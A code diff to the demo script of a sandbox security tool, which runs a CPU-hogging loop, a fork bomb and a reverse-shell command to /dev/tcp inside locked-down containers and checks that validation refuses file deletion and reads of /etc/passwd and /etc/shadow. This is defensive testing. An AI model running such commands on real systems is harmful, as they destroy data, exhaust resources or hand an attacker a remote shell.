@@ -15,9 +15,12 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+from reporting import HistoryReports
+from reporting.html import render_html
+from reporting.render_text import render_fleet
 from sandbox import CommandDeniedError, PathDeniedError, SandboxTerminated, ValidationDenied
 from sandguard.facade import SandboxManager
-from schemas import DetectionSettings, NetworkPolicy, ResourceLimits, SecurityPolicy
+from schemas import DetectionSettings, NetworkPolicy, ResourceLimits, SecurityPolicy, Store, now_ms
 
 BUSYBOX = "sandguard/busybox:1"
 # Windows short enough for a demo: a level rule needs 2 samples in 10 s.
@@ -34,13 +37,25 @@ REFUSED_COMMANDS = (
     "find /work -name '*.py' -exec rm {} ;",
     "$CMD /etc/passwd",
 )
+MINER = "sh -c 'while :; do :; done'"
+# Passes validation (only sh and sleep run) and forks until the kernel's pids limit holds it.
+FORK_BOMB = "sh -c 'while :; do sleep 60 & done'"
+# The agent's own code starts the shell, out of the validator's sight: runtime detection
+# reads the process's argv. It never connects (no network); the argv is the evidence.
+REVERSE_SHELL_PY = (
+    "import subprocess, time\n"
+    "subprocess.Popen(['bash', '-c', 'sleep 60; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'])\n"
+    "time.sleep(60)\n"
+)
 REFUSED_PATHS = ("../../etc/passwd", "/etc/shadow", "/work/notes.exe", "/proc/self/environ")
 
 
 def demo_policy() -> SecurityPolicy:
     return SecurityPolicy(
         name="demo",
-        resource_limits=ResourceLimits(memory_mb=128, cpu_percent=25.0, max_processes=24, execution_timeout=180),
+        resource_limits=ResourceLimits(
+            memory_mb=128, cpu_percent=25.0, max_processes=24, execution_timeout=180
+        ),
         network_policy=NetworkPolicy.NONE,
         violation_threshold=3,
         auto_terminate_on_violation=True,
@@ -67,6 +82,7 @@ class Demo:
         return sid
 
     async def refusals(self, sid: str) -> None:
+        """Validation refuses each; each refusal is also an audit event the rules count."""
         for command in REFUSED_COMMANDS:
             try:
                 await self.m.execute(sid, command, timeout=10)
@@ -85,16 +101,16 @@ class Demo:
     async def misbehaving(self) -> dict[str, str]:
         miner = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "miner"})
         bomb = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "forkbomb"})
-        shell = await self.m.create_sandbox(image=BUSYBOX, labels={"demo": "reverse-shell"})
+        shell = await self.m.create_sandbox(labels={"demo": "reverse-shell"})
+        await self.m.write_file(shell, "/work/agent.py", REVERSE_SHELL_PY)
         self.say(f"[miner] {miner[:12]}: a CPU hog under a 25 % quota")
         self.say(f"[forkbomb] {bomb[:12]}: forks until the pids limit (24)")
-        self.say(f"[reverse-shell] {shell[:12]}: a shell wired to /dev/tcp")
+        self.say(f"[reverse-shell] {shell[:12]}: agent code that starts a shell wired to /dev/tcp")
         hogs = [
-            self.m.execute(miner, "sh -c 'while :; do :; done'", timeout=WAIT_S),
-            self.m.execute(bomb, "sh -c 'b(){ b | b & }; b'", timeout=WAIT_S),
-            self.m.execute(shell, "sh -c 'while :; do sleep 1; done; bash -i >& /dev/tcp/127.0.0.1/4444 0>&1'",
-                           timeout=WAIT_S),
-        ]  # fmt: skip
+            self.m.execute(miner, MINER, timeout=WAIT_S),
+            self.m.execute(bomb, FORK_BOMB, timeout=WAIT_S),
+            self.m.execute(shell, "python3 /work/agent.py", timeout=WAIT_S),
+        ]
         results = await asyncio.gather(*hogs, return_exceptions=True)
         for name, r in zip(("miner", "forkbomb", "reverse-shell"), results, strict=True):
             outcome = type(r).__name__ if isinstance(r, BaseException) else f"exit {r.exit_code}"
@@ -118,7 +134,7 @@ class Demo:
 
 async def run_demo(*, data_dir: Path, say: Callable[[str], None] = print) -> dict[str, Any]:
     """Runs the scenario; returns the summary (also printed as JSON by the CLI)."""
-    started = time.monotonic()
+    started, started_ms = time.monotonic(), now_ms()
     manager = SandboxManager(demo_policy(), data_dir=data_dir)
     demo = Demo(manager, say)
     try:
@@ -128,5 +144,20 @@ async def run_demo(*, data_dir: Path, say: Callable[[str], None] = print) -> dic
         await demo.outcomes({"worker": worker, **bad})
     finally:
         await manager.cleanup()
+    if manager.pipeline is not None and manager.pipeline.store is not None:
+        page = data_dir / "report.html"
+        await asyncio.to_thread(write_reports, manager.pipeline.store, started_ms, bad["miner"], page, say)
+        demo.summary["html_report"] = str(page)
     demo.summary["seconds"] = round(time.monotonic() - started, 1)
     return demo.summary
+
+
+def write_reports(
+    store: Store, since_ms: int, sandbox_id: str, page: Path, say: Callable[[str], None]
+) -> None:
+    """The fleet report of this run in the terminal, and a sandbox's charts as a page."""
+    reports = HistoryReports(store)
+    fleet = reports.fleet_report(since_ms=since_ms)
+    say("\n" + render_fleet(fleet))
+    page.write_text(render_html(sandbox=reports.sandbox_report(sandbox_id), fleet=fleet), encoding="utf-8")
+    say(f"HTML report (charts of the miner and the fleet): {page}")
